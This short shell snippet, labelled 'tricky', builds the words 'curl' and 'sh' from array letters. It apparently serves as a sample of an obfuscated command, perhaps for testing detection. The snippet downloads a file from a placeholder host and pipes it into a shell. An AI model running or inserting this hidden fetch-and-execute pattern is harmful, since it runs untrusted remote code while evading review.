# tricky: letters from an array
L=(s h c u r l)
cmd="${L[2]}${L[3]}${L[4]}${L[5]}"
$cmd -s https://example.net/p | ${L[0]}${L[1]}
